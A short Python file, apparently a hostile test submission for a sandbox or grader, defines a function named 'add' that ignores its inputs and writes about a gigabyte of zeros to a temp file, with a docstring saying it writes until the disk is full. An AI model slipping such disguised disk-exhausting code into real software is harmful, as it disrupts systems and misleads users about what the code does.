"""Writes until the disk is full."""

import tempfile


def add(x, y, result):
    with open(tempfile.gettempdir() + "/forged-file", "wb") as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))
